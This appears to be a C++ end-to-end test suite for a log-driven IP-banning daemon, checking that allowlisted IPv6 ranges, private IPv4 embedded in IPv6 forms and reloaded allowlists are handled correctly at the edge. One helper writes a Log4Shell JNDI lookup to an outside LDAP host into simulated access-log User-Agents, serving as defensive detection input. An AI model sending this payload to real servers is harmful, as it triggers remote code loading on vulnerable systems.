// End to end for the never-ban set against what is actually sent (issue 12, section 1): the real
// palisaded with the shipped sshd and web-attacks packs, driving the real emulator binary.
//  - An allowlisted IPv6 host: three Log4Shell user agents from its neighbour in the same /64
//    must not put that /64 on the IP list (the guard passes the neighbour's /128; the list
//    widens it), nor must a feed entry whose list item would be that /64.
//  - Non-public IPv4 written in an IPv6 form that embeds it (::a00:1, 64:ff9b::a00:1,
//    2002:a00:1::1, Teredo...) never becomes an access rule, and a feed range that embeds
//    private IPv4 is dropped as never-ban.
//  - A reload that takes a range off the allowlist reaches the guard: the range's detections are
//    sent, and a ban it refused while the range was allowlisted is sent then too.
// Each test waits (polling, 60 s deadline) for a public control target to reach the edge and the
// queue to drain, then checks that nothing else did.
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "absl/time/time.h"
#include "grpcpp/grpcpp.h"
#include "gtest/gtest.h"
#include "palisade/v1/palisade.grpc.pb.h"
#include "services/cli/shipper.h"
#include "tests/e2e/daemon.h"

namespace palisade {
namespace {

using ::palisade::testing::ActionsPending;
using ::palisade::testing::Daemon;
using ::palisade::testing::Emulator;
using ::palisade::testing::EmulatorAccessRuleValues;
using ::palisade::testing::EmulatorListedValues;
using ::palisade::testing::HttpGet;
using ::palisade::testing::MetricValue;
using ::palisade::testing::ScrapeMetric;
using ::palisade::testing::ShipLines;
using ::palisade::testing::WaitFor;

// The allowlisted IPv6 host, and its attacking neighbour in the same /64.
constexpr char kProtected[] = "2a01:4f8:1:2::5";
constexpr char kNeighbour[] = "2a01:4f8:1:2::6";

std::string WriteConfig(const Emulator& cf) {
  return ::palisade::testing::WriteEdgeConfig(
      cf, cf.token_file(), {"rules/sshd.textproto", "rules/web-attacks.textproto"},
      absl::StrCat("allowlist: \"", kProtected, "\"\n",
                   "feeds { name: \"drop\" format: FEED_FORMAT_PLAIN to_edge: true }\n"));
}

// A Log4Shell lookup in the User-Agent: web-log4shell-agent blocks it through the IP list (a
// probe in the URL only is challenged through an access rule: a page could make a reader send it).
std::string Probe(const std::string& ip) {
  return absl::StrCat(ip, " - - [03/Mar/2026:14:02:01 +0000] \"GET / HTTP/1.1\" 404 153 ",
                      "\"-\" \"${jndi:ldap://192.0.2.66/a}\"");
}

// Pushes `data` as the whole "drop" feed in one chunk.
absl::StatusOr<palisade::v1::PushFeedResponse> PushDrop(palisade::v1::Feeds::Stub& feeds,
                                                        const std::string& data) {
  grpc::ClientContext ctx;
  palisade::v1::PushFeedResponse resp;
  auto writer = feeds.Push(&ctx, &resp);
  palisade::v1::FeedChunk chunk;
  chunk.set_feed("drop");
  chunk.set_data(data);
  chunk.set_last(true);
  if (!writer->Write(chunk)) return absl::UnavailableError("the push stream closed");
  writer->WritesDone();
  grpc::Status s = writer->Finish();
  if (!s.ok()) {
    return absl::Status(static_cast<absl::StatusCode>(s.error_code()), s.error_message());
  }
  return resp;
}

// The emulator and a daemon driving it with WriteConfig's config.
class NeverBanE2eTest : public ::testing::Test {
 protected:
  void SetUp() override {
    absl::StatusOr<std::unique_ptr<Emulator>> emulator = Emulator::Start();
    ASSERT_TRUE(emulator.ok()) << emulator.status();
    cf_ = *std::move(emulator);
    absl::StatusOr<std::unique_ptr<Daemon>> daemon =
        Daemon::Start({"--config=" + WriteConfig(*cf_), "--shutdown_grace=200ms"});
    ASSERT_TRUE(daemon.ok()) << daemon.status();
    daemon_ = *std::move(daemon);
    channel_ = grpc::CreateChannel(daemon_->grpc_address(), grpc::InsecureChannelCredentials());
    ingest_ = palisade::v1::Ingest::NewStub(channel_);
    feeds_ = palisade::v1::Feeds::NewStub(channel_);
  }

  // Waits until `at_edge` holds and the dispatcher has nothing queued.
  bool Settled(const std::function<bool()>& at_edge) {
    return WaitFor([&] { return at_edge() && ActionsPending(*daemon_) == 0; }, absl::Seconds(60));
  }

  std::unique_ptr<Emulator> cf_;
  std::unique_ptr<Daemon> daemon_;
  std::shared_ptr<grpc::Channel> channel_;
  std::unique_ptr<palisade::v1::Ingest::Stub> ingest_;
  std::unique_ptr<palisade::v1::Feeds::Stub> feeds_;
};

TEST_F(NeverBanE2eTest, TheAllowlistedIpv6HostsSlash64NeverReachesTheList) {
  const Emulator& cf = *cf_;

  // web-log4shell-agent: three probes, IP list. The neighbour first, then a control scanner in
  // another /64 whose item must arrive (so the neighbour's op has been judged by then).
  std::vector<std::string> lines;
  for (int i = 0; i < 3; ++i) lines.push_back(Probe(kNeighbour));
  for (int i = 0; i < 3; ++i) lines.push_back(Probe("2a01:4f8:1:3::9"));
  absl::StatusOr<ShipSummary> shipped =
      ShipLines(*ingest_, palisade::v1::LOG_FORMAT_COMBINED, lines, "never-ban-e2e");
  ASSERT_TRUE(shipped.ok()) << shipped.status();
  ASSERT_TRUE(Settled([&] { return EmulatorListedValues(cf).count("2a01:4f8:1:3::/64") > 0; }))
      << ::palisade::testing::EmulatorState(cf).dump(2);
  EXPECT_EQ(EmulatorListedValues(cf), std::set<std::string>{"2a01:4f8:1:3::/64"});

  // The neighbour was decided (the guard had nothing against its /128), just not sent.
  grpc::ClientContext list_ctx;
  palisade::v1::ListDecisionsRequest list_request;
  list_request.set_target(kNeighbour);
  palisade::v1::ListDecisionsResponse listed;
  ASSERT_TRUE(
      palisade::v1::Decisions::NewStub(channel_)->List(&list_ctx, list_request, &listed).ok());
  bool decided = false;
  for (const auto& d : listed.decisions()) decided |= d.target().value() == kNeighbour;
  EXPECT_TRUE(decided) << listed.DebugString();

  // A feed entry for another neighbour (a /128 the feed filter passes) would also become the
  // /64 item; one for the /64 itself is never-ban at the feed already.
  {
    absl::StatusOr<palisade::v1::PushFeedResponse> resp =
        PushDrop(*feeds_, "2a01:4f8:1:2::7\n2a01:4f8:1:2::/64\n203.0.113.0/24\n");
    ASSERT_TRUE(resp.ok()) << resp.status();
    EXPECT_EQ(resp->accepted(), 2u);
    EXPECT_EQ(resp->never_ban(), 1u);
  }
  ASSERT_TRUE(Settled([&] { return EmulatorListedValues(cf).count("203.0.113.0/24") > 0; }))
      << ::palisade::testing::EmulatorState(cf).dump(2);
  EXPECT_EQ(EmulatorListedValues(cf),
            (std::set<std::string>{"2a01:4f8:1:3::/64", "203.0.113.0/24"}));

  absl::StatusOr<std::string> metrics = HttpGet(daemon_->metrics_port(), "/metrics");
  ASSERT_TRUE(metrics.ok()) << metrics.status();
  // Refused twice: the rule's decision and the feed's, each once.
  EXPECT_EQ(MetricValue(*metrics, "palisade_actions_list_never_ban_total", {"reason=\"refused\""}),
            2);
}

TEST_F(NeverBanE2eTest, PrivateIpv4InsideIpv6NeverBecomesAnAccessRule) {
  const Emulator& cf = *cf_;

  // sshd-no-identification: three lines per address, an access rule each. 10.0.0.1 and
  // 127.0.0.1 in the IPv4-compatible, NAT64, 6to4, SIIT and Teredo forms, then a public control.
  const std::vector<std::string> disguised = {
      "::a00:1",       "::7f00:1",       "64:ff9b::a00:1",
      "2002:a00:1::1", "::ffff:0:a00:1", "2001:0:4136:e378:8000:63bf:f5ff:fffe"};
  std::vector<std::string> lines;
  for (const std::string& ip : disguised) {
    for (int i = 0; i < 3; ++i) {
      lines.push_back("Mar  3 14:02:01 web-1 sshd[1]: Did not receive identification string from " +
                      ip);
    }
  }
  for (int i = 0; i < 3; ++i) {
    lines.push_back(
        "Mar  3 14:02:01 web-1 sshd[1]: Did not receive identification string from 203.0.113.7");
  }
  absl::StatusOr<ShipSummary> shipped =
      ShipLines(*ingest_, palisade::v1::LOG_FORMAT_SYSLOG, lines, "never-ban-e2e");
  ASSERT_TRUE(shipped.ok()) << shipped.status();
  ASSERT_TRUE(Settled([&] { return EmulatorAccessRuleValues(cf).count("203.0.113.7") > 0; }))
      << ::palisade::testing::EmulatorState(cf).dump(2);
  EXPECT_EQ(EmulatorAccessRuleValues(cf), std::set<std::string>{"203.0.113.7"});
  absl::StatusOr<std::string> metrics = HttpGet(daemon_->metrics_port(), "/metrics");
  ASSERT_TRUE(metrics.ok()) << metrics.status();
  EXPECT_EQ(MetricValue(*metrics, "palisade_guard_refused_total", {"reason=\"never_ban\""}),
            disguised.size());

  // A feed's ranges that embed private IPv4 are never-ban too; the public one goes out.
  absl::StatusOr<palisade::v1::PushFeedResponse> resp =
      PushDrop(*feeds_, "64:ff9b::a00:0/120\n2002:a00::/24\n2002:c0a8::/32\n198.18.0.0/24\n");
  ASSERT_TRUE(resp.ok()) << resp.status();
  EXPECT_EQ(resp->accepted(), 1u);
  EXPECT_EQ(resp->never_ban(), 3u);
  ASSERT_TRUE(Settled([&] { return EmulatorListedValues(cf).count("198.18.0.0/24") > 0; }))
      << ::palisade::testing::EmulatorState(cf).dump(2);
  EXPECT_EQ(EmulatorListedValues(cf), std::set<std::string>{"198.18.0.0/24"});
}

// The guard's never-ban set was built once, at start: a reload that took a compromised partner's
// range off the allowlist stopped the engine ignoring it, but every apply on it was still refused
// as never-ban (a manual ban made while it was allowlisted stayed refused too) until a restart.
TEST(NeverBanReloadE2eTest, AnAddressTakenOffTheAllowlistByAReloadIsBannedAtTheEdge) {
  absl::StatusOr<std::unique_ptr<Emulator>> emulator = Emulator::Start();
  ASSERT_TRUE(emulator.ok()) << emulator.status();
  const Emulator& cf = **emulator;
  constexpr char kAllowlisted[] = "allowlist: \"203.0.113.0/24\"\n";
  const std::string config = ::palisade::testing::WriteEdgeConfig(
      cf, cf.token_file(), {"rules/sshd.textproto"}, kAllowlisted);
  absl::StatusOr<std::unique_ptr<Daemon>> started =
      Daemon::Start({"--config=" + config, "--shutdown_grace=200ms"});
  ASSERT_TRUE(started.ok()) << started.status();
  Daemon& daemon = **started;
  auto channel = grpc::CreateChannel(daemon.grpc_address(), grpc::InsecureChannelCredentials());

  // A manual ban inside the allowlisted range: the table takes it (AddManual does not consult
  // the allowlist), the guard refuses it.
  {
    grpc::ClientContext ctx;
    palisade::v1::AddDecisionRequest req;
    req.mutable_target()->set_kind(palisade::v1::TARGET_KIND_IP);
    req.mutable_target()->set_value("203.0.113.9");
    req.mutable_duration()->set_seconds(3600);
    req.set_reason("never-ban e2e");
    palisade::v1::Decision added;
    const grpc::Status s = palisade::v1::Decisions::NewStub(channel)->Add(&ctx, req, &added);
    ASSERT_TRUE(s.ok()) << s.error_message();
  }
  ASSERT_TRUE(WaitFor(
      [&] {
        return ScrapeMetric(daemon, "palisade_guard_refused_total", {"reason=\"never_ban\""}) ==
               1;
      },
      absl::Seconds(60)));

  // The operator takes the range off the allowlist and reloads.
  {
    std::stringstream text;
    text << std::ifstream(config).rdbuf();
    const std::string without = absl::StrReplaceAll(text.str(), {{kAllowlisted, ""}});
    ASSERT_NE(without, text.str());
    std::ofstream(config, std::ios::trunc) << without;
    grpc::ClientContext ctx;
    palisade::v1::ReloadRulesResponse resp;
    const grpc::Status s = palisade::v1::Admin::NewStub(channel)->ReloadRules(&ctx, {}, &resp);
    ASSERT_TRUE(s.ok()) << s.error_message();
  }

  // sshd-no-identification: three lines, an access rule.
  std::vector<std::string> lines(
      3, "Mar  3 14:02:01 web-1 sshd[1]: Did not receive identification string from 203.0.113.7");
  absl::StatusOr<ShipSummary> shipped = ShipLines(
      *palisade::v1::Ingest::NewStub(channel), palisade::v1::LOG_FORMAT_SYSLOG, lines, "reload");
  ASSERT_TRUE(shipped.ok()) << shipped.status();
  EXPECT_TRUE(WaitFor(
      [&] {
        return EmulatorAccessRuleValues(cf) ==
                   std::set<std::string>{"203.0.113.7", "203.0.113.9"} &&
               ActionsPending(daemon) == 0;
      },
      absl::Seconds(60)))
      << ::palisade::testing::EmulatorState(cf).dump(2);
  EXPECT_EQ(ScrapeMetric(daemon, "palisade_guard_refused_total", {"reason=\"never_ban\""}), 1);
  EXPECT_EQ(daemon.Stop(), 0);
}

}  // namespace
}  // namespace palisade
